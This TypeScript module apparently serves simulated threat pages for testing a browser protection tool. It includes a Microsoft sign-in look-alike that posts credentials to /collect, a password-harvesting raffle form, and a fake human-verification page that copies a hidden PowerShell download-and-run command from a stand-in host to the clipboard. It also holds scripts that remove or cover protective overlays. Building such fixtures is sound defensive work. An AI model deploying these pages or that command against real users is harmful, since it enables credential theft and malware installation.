import { firstOf, htmlPage, type SitePart } from './site.ts'

/** Ways in which the page below fights an overlay; `?fight=` selects one. */
const fights: Readonly<Record<string, string>> = {
  hide: '<style>html > div { display: none !important }</style>',
  remove: `<script>
new MutationObserver(() => { for (const one of document.documentElement.children) if (!/^(head|body)$/.test(one.localName)) one.remove() })
  .observe(document.documentElement, { childList: true })
</script>`,
  navigate: `<script>
navigation.addEventListener('navigate', (event) => event.preventDefault())
setInterval(() => { for (const one of document.documentElement.children) if (!/^(head|body)$/.test(one.localName)) one.remove() }, 20)
</script>`,
  popover: `<script>
addEventListener('DOMContentLoaded', () => {
  const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' })
  root.innerHTML = '<p popover="manual" style="box-sizing: border-box; width: 100vw; height: 100vh; margin: 0">Session expired</p>'
  setInterval(() => { root.firstChild.hidePopover(); root.firstChild.showPopover() }, 50)
})
</script>`,
  cover: `<script>
addEventListener('DOMContentLoaded', () => {
  const cover = document.createElement('dialog')
  cover.append(document.querySelector('main'))
  document.body.append(cover)
  setInterval(() => { cover.close(); cover.showModal() }, 50)
})
</script>`,
}

/** Page that imitates Microsoft's sign-in on another host. */
const lookAlike: SitePart = ({ method, url }) => {
  if (url.pathname === '/collect' && method === 'POST')
    return htmlPage('Please wait', '<h1>Please wait…</h1>')
  if (url.pathname !== '/microsoft') return undefined
  return htmlPage(
    'Sign in to your account',
    `<link rel="stylesheet" href="https://aadcdn.msauth.net/shared/1.0/content/css/converged.css">
<main><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo.svg" alt="Microsoft">
<h1>Sign in</h1><form method="post" action="/collect">
  <input type="email" name="loginfmt" placeholder="Email, phone, or Skype" autocomplete="username">
  <input type="password" name="passwd" placeholder="Password" autocomplete="current-password">
  <p>No account? <a href="#">Create one!</a> <a href="#">Can't access your account?</a></p>
  <button type="submit">Sign in</button></form>
<footer>Terms of use Privacy &amp; cookies © Microsoft 2026</footer></main>${fights[url.searchParams.get('fight') ?? ''] ?? ''}`,
  )
}

/** Page that asks for a password without any resemblance to an identity provider. */
const plainTrap: SitePart = ({ url }) => {
  if (url.pathname !== '/raffle') return undefined
  return htmlPage(
    'Spring raffle',
    `<h1>Win a bicycle</h1><form method="post" action="/collect">
  <label>Your e-mail <input type="email" name="email"></label>
  <label>Choose a password <input type="password" name="secret"></label>
  <button type="submit">Take part</button></form>`,
  )
}

/** Command that the page below puts on the clipboard. */
const pastedCommand = 'powershell -w hidden -c "iex (iwr https://cdn.brass-verify.example/a.ps1)"'

/** Ways in which the page below copies text, by the path after `/verify`. */
const copies: Readonly<Record<string, string>> = {
  '': `select(command)
  document.execCommand('copy')
  navigator.clipboard?.writeText(command).catch(() => {})`,
  '/unheard': `select(command).addEventListener('copy', (event) => event.stopPropagation())
  document.execCommand('copy')`,
  '/swapped': `select('A harmless text').addEventListener('copy', (event) => {
    event.stopPropagation()
    event.preventDefault()
    event.clipboardData.setData('text', command)
  })
  document.execCommand('copy')`,
  '/left': `select(command)
  document.execCommand('copy')
  location.href = '/home'`,
  '/forged': `const item = new ClipboardItem({ 'text/plain': new Blob([command], { type: 'text/plain' }) })
  for (const name of ['types', 'getType']) Object.defineProperty(ClipboardItem.prototype, name, { value: () => [] })
  navigator.clipboard.write([item])`,
}

/** Page that asks users to "prove that they are human" with a command that it puts on the clipboard. */
const copyPasteAttack: SitePart = ({ url }) => {
  const [, way = null] = /^\/verify(.*)$/.exec(url.pathname) ?? []
  if (way === null || !(way in copies)) return undefined
  return htmlPage(
    'Verify you are human',
    `<h1>Verify you are human</h1><button id="verify">I am not a robot</button>
<p>Press Windows+R, then Ctrl+V, then Enter.</p>
<script>
const command = ${JSON.stringify(pastedCommand)}
function select(text) {
  const area = document.createElement('textarea')
  area.value = text
  document.body.append(area)
  area.select()
  return area
}
document.getElementById('verify').addEventListener('click', () => {
  ${copies[way]}
  document.querySelector('textarea')?.remove()
  document.getElementById('verify').textContent = 'Done'
})
</script>`,
  )
}

/** Page with frames, given by `?frame=`. */
const framed: SitePart = ({ url }) => {
  if (url.pathname !== '/framed') return undefined
  const frames = url.searchParams.getAll('frame').map((address) => {
    const { href } = new URL(address)
    return `<iframe src="${href.replaceAll('"', '%22')}" width="400" height="200"></iframe>`
  })
  return htmlPage('Frames', `<h1>Frames</h1>${frames.join('')}`)
}

/** Paths to which these pages send a password themselves. */
export const trapPasswordPaths = ['/collect']

export const threats = firstOf(lookAlike, plainTrap, copyPasteAttack, framed)
